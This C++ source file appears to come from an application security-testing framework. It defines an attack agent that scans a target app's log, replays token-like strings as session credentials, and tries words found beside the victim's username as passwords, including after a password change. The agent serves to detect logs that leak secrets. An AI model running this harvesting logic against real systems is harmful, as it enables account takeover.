// leaked-log: everything in the app's log that looks like a token, shown to the app as a session,
// and what stands beside the victim's name, tried as a password. A log keeps nothing of them (OWASP
// Logging Cheat Sheet, "Data to exclude"; ASVS 5.0, 16.2.5).
#include <algorithm>

#include "core/attack/every_agent.h"
#include "core/attack/leaked_tokens.h"
#include "core/attack/lure.h"
#include "core/attack/session.h"
#include "core/base/ascii.h"

namespace parapet::attack {
namespace {

constexpr std::size_t kMostPasswords = 8;
constexpr std::size_t kShortest = 8;  // of passwords

class LeakedLog final : public Agent {
    void run(Target& target) override {
        Credentials const own = own_credentials(target);
        if (target.leaks() == nullptr || !victim_signs_in(target)) return;
        victim_does(target, routines_option(target, option::kDoes));
        std::size_t read = 0;
        try_new_lines(target, own, read);
        try_passwords(target);
        if (target.option(option::kLater).empty()) return;
        // With a new password the old one is worth nothing any more.
        victim_does(target, routines_option(target, option::kLater));
        try_new_lines(target, own, read);
    }

    // read: how many he has seen before.
    static void try_new_lines(Target& target, Credentials const& own, std::size_t& read) {
        std::string log;
        auto const lines = target.leaks()->log();
        for (; read < lines.size(); ++read) log += lines[read] + '\n';
        try_leaked_tokens(target, own, log);
    }

    // What stands in one line with the victim's name, the newest first.
    static void try_passwords(Target& target) {
        std::string const name = target.victim()->username();
        std::vector<std::string> tried;
        auto const lines = target.leaks()->log();
        for (auto line = lines.rbegin(); line != lines.rend(); ++line) {
            if (line->find(name) == std::string::npos) continue;
            for (std::string& word : words_of(*line)) {
                if (tried.size() == kMostPasswords) return;
                if (word == name || std::find(tried.begin(), tried.end(), word) != tried.end())
                    continue;
                target.forget_cookies();
                use(target, credentials_in(sign_in_answer(target, {name, word})));
                tried.push_back(std::move(word));
            }
        }
    }

    static std::vector<std::string> words_of(std::string const& line) {
        std::vector<std::string> words(1);
        for (char c : line) {
            if (ascii::is_alphanumeric(c) || c == '-')
                words.back() += c;
            else if (!words.back().empty())
                words.emplace_back();
        }
        std::erase_if(words, [](std::string const& word) { return word.size() < kShortest; });
        return words;
    }
};

}  // namespace

std::unique_ptr<Agent> make_leaked_log() { return std::make_unique<LeakedLog>(); }

}  // namespace parapet::attack
